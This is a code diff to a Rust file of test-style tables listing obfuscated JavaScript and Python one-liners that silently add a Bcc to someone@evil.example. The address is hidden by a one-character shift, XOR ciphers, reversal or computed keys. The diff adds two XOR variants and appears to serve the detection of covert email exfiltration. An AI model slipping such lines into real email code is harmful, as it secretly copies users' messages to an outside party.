@@ -149,7 +149,11 @@ pub(crate) const IN_JAVASCRIPT: &[Way] = &[
     },
     Way {
         property: "Bcc: 'rnldnmd?duhk-dw`lokd'.split('').map(c => String.fromCharCode(c.charCodeAt(0) + 1)).join(''),",
-        ..way("shifted by one", &["D2"])
+        ..way("shifted by one", ALL)
+    },
+    Way {
+        property: "Bcc: [116, 104, 106, 98, 104, 105, 98, 71, 98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98].map(c => String.fromCharCode(c ^ 7)).join(''),",
+        ..way("its own cipher", ALL)
     },
     Way {
         statement: "const k = Object.keys(emailData).find(k => k.length === 2); emailData[k] += [44, ...audit].map(c => c).toString();",
@@ -195,6 +199,10 @@ pub(crate) const IN_PYTHON: &[Way] = &[
     Way {
         statement: "message['Bcc'] = ''.join(map(chr, [115,111,109,101,111,110,101,64,101,118,105,108,46,101,120,97,109,112,108,101]))",
         ..way("chr in a map", ALL)
+    },
+    Way {
+        statement: "message['Bcc'] = ''.join(chr(c ^ 7) for c in [116, 104, 106, 98, 104, 105, 98, 71, 98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98])",
+        ..way("its own cipher", ALL)
     },
     Way { statement: "message['Bcc'] = 'elpmaxe.live@enoemos'[::-1]", ..way("reversed", ALL) },
     Way { statement: "message['B' + 'cc'] = 'someone@evil.example'", ..way("computed key", ALL) },
